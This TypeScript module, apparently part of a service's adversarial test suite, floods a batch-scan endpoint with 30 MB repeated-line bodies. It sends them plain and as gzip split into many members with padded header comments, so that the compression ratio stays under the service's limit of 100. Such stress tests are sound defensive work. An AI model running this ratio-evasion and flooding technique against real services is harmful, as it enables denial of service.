/** Batches whose lines cost the sender nothing. */
import { gzipSync } from 'node:zlib';
import type { Attack } from './attack.js';
import type { AttackScenario } from './scenario.js';

const bytes = 30_000_000;
/** Requests in progress at the same time. */
const parallel = 3;

const repeated = (line: string): Buffer => Buffer.alloc(bytes, line);

/** One gzip member: beyond the first megabyte, the service allows a ratio of 100. */
function compressed(body: Buffer): Buffer {
  const members = [];
  // A new member every 100 KB, and a comment in its head, keep the ratio low without further lines.
  for (let i = 0; i < body.length; i += 100_000) {
    const member = gzipSync(body.subarray(i, i + 100_000));
    const comment = Buffer.alloc(1_200, 'c');
    comment[comment.length - 1] = 0;
    // Bit 4 of the flags announces a comment (RFC 1952, section 2.3).
    members.push(
      member.subarray(0, 3),
      Buffer.of(0x10),
      member.subarray(4, 10),
      comment,
      member.subarray(10),
    );
  }
  return Buffer.concat(members);
}

/** Sends batches of one repeated line all the time, first plain and then with gzip. */
export function batchAttack(what: string, line: string): Attack {
  return {
    what,
    async run(scenario) {
      const plain = repeated(line);
      await sendAll(scenario, plain, {});
      await sendAll(scenario, compressed(plain), { 'content-encoding': 'gzip' });
    },
  };
}

async function sendAll(
  scenario: AttackScenario,
  body: Buffer,
  headers: Record<string, string>,
): Promise<void> {
  await scenario.repeatedly(parallel, 0.5, () =>
    scenario.keyed({
      path: '/api/scan/batch',
      headers: { 'content-type': 'application/x-ndjson', ...headers },
      body,
      timeoutMs: 120_000,
    }),
  );
}
